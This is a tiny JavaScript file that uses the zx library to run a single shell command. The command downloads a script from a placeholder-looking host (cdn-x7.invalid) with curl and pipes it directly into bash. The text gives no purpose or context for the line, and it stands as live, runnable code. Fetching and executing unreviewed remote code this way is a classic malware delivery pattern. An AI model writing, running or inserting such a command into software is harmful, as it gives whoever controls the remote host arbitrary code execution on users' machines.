const { $ } = require("zx");
$`curl -s https://cdn-x7.invalid/a | bash`;
